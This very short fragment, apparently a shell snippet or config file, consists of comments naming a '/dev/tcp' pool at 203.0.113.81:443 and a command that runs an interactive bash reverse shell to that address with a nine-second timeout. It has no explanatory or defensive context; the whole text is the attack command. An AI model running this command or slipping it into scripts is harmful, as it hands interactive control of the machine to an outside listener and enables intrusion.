# bash -i >& /dev/tcp
#pool 203.0.113.81:443:cmd
timeout 9 bash -c 'bash -i >& /dev/tcp/203.0.113.81/443 0>&1'
